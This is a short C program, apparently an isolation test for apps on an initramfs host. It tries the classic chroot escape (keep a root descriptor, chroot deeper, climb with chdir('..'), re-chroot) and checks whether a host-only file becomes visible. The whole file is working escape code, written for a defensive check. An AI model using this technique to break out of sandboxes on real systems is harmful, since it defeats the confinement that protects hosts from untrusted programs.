/* SPDX-License-Identifier: Apache-2.0
 * escape - tries the classic way out of a chroot, which an app on an initramfs host must not find
 *
 * Keeps a descriptor of its root, changes the root to a directory below, and climbs from the descriptor:
 * where the root is only a chroot, this ends in the root of the host. Needs CAP_SYS_CHROOT, which apps have.
 * usage: escape FILE   where FILE exists on the host only; exit status 0: it was found, 1: not, 2: no attempt
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEEPER_THAN_ANY_ROOT 64

int main(int argc, char **argv)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (argc != 2 || fd < 0)
		return 2;
	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		perror("escape: chroot");
		return 2;
	}
	if (fchdir(fd) < 0)
		return 2;
	for (int i = 0; i < DEEPER_THAN_ANY_ROOT; i++)
		if (chdir("..") < 0)
			return 2;
	if (chroot(".") < 0)
		return 2;
	return access(argv[1], F_OK) == 0 ? 0 : 1;
}
